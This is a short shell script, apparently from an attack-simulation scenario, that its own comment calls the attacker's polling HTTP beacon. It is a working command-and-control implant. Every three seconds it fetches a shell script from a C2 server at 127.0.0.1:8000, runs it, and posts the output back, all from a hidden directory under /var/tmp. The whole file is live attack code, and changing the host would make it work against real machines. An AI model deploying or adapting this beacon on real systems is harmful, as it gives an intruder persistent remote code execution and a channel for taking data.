#!/bin/sh
# the attacker's polling HTTP beacon (scenario-kb-sqlconsole): every 3 s GET
# /t/<name> from the C2 on 127.0.0.1:8000; a 200 body is a task (a shell
# script) run with sh, its output POSTed to /o/<name>. Runs while this file
# exists.
n=${1:-u}; d=/var/tmp/.kbc
while [ -e "$d/b.sh" ]; do
  if curl -fsS -m 5 -o "$d/.t.$n" "http://127.0.0.1:8000/t/$n?p=$$" 2>/dev/null; then
    sh "$d/.t.$n" > "$d/.o.$n" 2>&1
    curl -fsS -m 5 --data-binary "@$d/.o.$n" "http://127.0.0.1:8000/o/$n" > /dev/null 2>&1
    rm -f "$d/.t.$n" "$d/.o.$n"
  fi
  sleep 3
done
